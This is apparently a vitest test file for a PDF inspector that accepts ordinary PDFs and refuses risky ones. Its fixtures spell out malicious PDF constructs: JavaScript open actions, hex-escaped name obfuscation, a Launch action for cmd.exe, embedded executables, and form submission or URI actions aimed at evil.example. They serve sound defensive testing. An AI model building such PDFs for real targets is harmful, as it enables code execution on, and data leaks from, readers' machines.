import { deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'
import { describe, expect, it } from 'vitest'
import { pdfOf } from '../../../../test/pdf.ts'
import { bytesOf, newDocument } from '../../../platform/pdf.ts'
import { isHarmlessPdf } from './pdf.inspection.ts'

const judge = (text: string) => isHarmlessPdf(Buffer.from(text, 'latin1'))

const stream = (dictionary: string, content: Buffer) =>
  `<< ${dictionary} /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream`
const packed = (dictionary: string, text: string) =>
  stream(`${dictionary} /Filter /FlateDecode`, deflateSync(Buffer.from(text, 'latin1')))
const objects = (text: string) => packed('/Type /ObjStm /N 1 /First 4', `4 0 ${text}`)

describe('a PDF', () => {
  it('a PDF that shows pages is harmless, as we and others write it', async () => {
    expect(judge(pdfOf())).toBe(true)
    // Opening on a page with a zoom is what every word processor writes.
    expect(judge(pdfOf([], '/OpenAction [3 0 R /XYZ null null 1] /PageMode /UseNone'))).toBe(true)
    expect(judge(pdfOf([packed('', 'BT (Tj) Tj ET'), objects('<< /Type /Font >>')]))).toBe(true)
    const link = '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.gov.cn/) >> >>'
    expect(judge(pdfOf([link, '[3 0 R /Fit]'], '/OpenAction 5 0 R'))).toBe(true)
    expect(judge(pdfOf([link, '<< /S /GoTo /D [3 0 R /Fit] >>'], '/OpenAction 5 0 R'))).toBe(true)
    const ours = newDocument({ title: '证明', author: '我们', madeAt: new Date(0) })
    const finished = bytesOf(ours)
    ours.addPage().font('regular', 12).text('志愿服务证明', 50, 50)
    ours.end()
    expect(isHarmlessPdf(await finished)).toBe(true)
    // Objects in streams, and their table too, as current writers do.
    const modern = new PDFDocument({ pdfVersion: '1.7' })
    const made = bytesOf(modern)
    modern.text('proof').end()
    expect(isHarmlessPdf(await made)).toBe(true)
  })

  it('a PDF with a picture that looks like anything is harmless', () => {
    const noise = Buffer.alloc(400_000)
    for (let at = 0, seed = 7; at < noise.length; at++) {
      seed = (seed * 1103515245 + 12345) % 2 ** 31
      noise[at] = seed >> 16
    }
    noise.write('/JS ', 1000, 'latin1')
    noise.write('/XFA ', 2000, 'latin1')
    expect(judge(pdfOf([stream('/Subtype /Image /Filter /DCTDecode', noise)]))).toBe(true)
  })

  it.each([
    [
      'runs a script when it is opened',
      pdfOf(['<< /S /JavaScript /JS (app.alert\\(1\\)) >>'], '/OpenAction 4 0 R'),
    ],
    ['runs one on a page', pdfOf(['<< /O << /S /JavaScript /JS 5 0 R >> >>', '(x)'])],
    ['writes its names by numbers', pdfOf(['<< /S /J#61vaScr#69pt /J#53 (x) >>'])],
    ['keeps scripts by name', pdfOf([], '/Names << /JavaScript << /Names [] >> >>')],
    ['starts a program', pdfOf(['<< /S /Launch /F (cmd.exe) >>'])],
    ['carries a file', pdfOf([packed('/Type /EmbeddedFile', 'MZ')])],
    ['lists files', pdfOf([], '/Names << /EmbeddedFiles << /Names [] >> >>')],
    ['has a form of its own kind', pdfOf([], '/AcroForm << /XFA 4 0 R >>')],
    ['sends what is filled in', pdfOf(['<< /S /SubmitForm /F (http://evil.example) >>'])],
    ['plays what is in it', pdfOf(['<< /Subtype /RichMedia >>'])],
    ['hides a script among packed objects', pdfOf([objects('<< /S /JavaScript /JS (x) >>')])],
    ['hides one there by numbers', pdfOf([objects('<< /S /#4AavaScript /#4AS (x) >>')])],
    [
      'does not say that a stream has objects',
      pdfOf([packed('/N 1 /First 4', '4 0 << /JS (x) >>')]),
    ],
    [
      'packs objects in an unusual way',
      pdfOf([
        stream(
          '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]',
          Buffer.from('00>'),
        ),
      ]),
    ],
    [
      'packs objects twice',
      pdfOf([
        stream(
          '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]',
          deflateSync(deflateSync(Buffer.from('4 0 << /S /JavaScript /JS (x) >>'))),
        ),
      ]),
    ],
    [
      'packs objects by differences',
      pdfOf([
        stream(
          '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >>',
          deflateSync(Buffer.from('differences')),
        ),
      ]),
    ],
    ['names a file it carries', pdfOf(['<< /Type /Filespec /EF << /F 5 0 R >> >>', '(x)'])],
    ['unpacks objects to a flood', pdfOf([objects(' '.repeat(9 * 1024 * 1024))])],
    [
      'opens an address at once',
      pdfOf(['<< /S /URI /URI (http://evil.example/) >>'], '/OpenAction 4 0 R'),
    ],
    [
      'opens one written in place',
      pdfOf([], '/OpenAction << /S /URI /URI (http://evil.example/) >>'),
    ],
    [
      'opens one from a packed object',
      pdfOf([objects('<< /S /URI /URI (http://evil.example/) >>')], '/OpenAction 9 0 R'),
    ],
    ['leads to a file elsewhere', pdfOf(['<< /S /GoToR /F (\\\\\\\\evil\\\\x) /D [0 /Fit] >>'])],
    ['acts when a page is shown', pdfOf(['<< /AA << /O 5 0 R >> >>'])],
    ['is locked', pdfOf().replace('/Root', '/Encrypt 4 0 R /Root')],
    ['is only called one', '%PDF-1.7\nnothing more'],
    ['has no table of objects', pdfOf().replace(/startxref[\s\S]*/, '')],
    ['points elsewhere for it', pdfOf().replace(/startxref\n\d+/, 'startxref\n17')],
    ['goes on after its end', `${pdfOf()}${'x'.repeat(40)}`],
  ])('a PDF that %s is refused', (_what, text) => {
    expect(judge(text)).toBe(false)
  })

  it('a PDF made to be looked at for ever is judged all the same', () => {
    const digits = `${'1'.repeat(4000)}stream\n`
    expect(judge(pdfOf([digits.repeat(1000)]))).toBeTypeOf('boolean')
  })
})
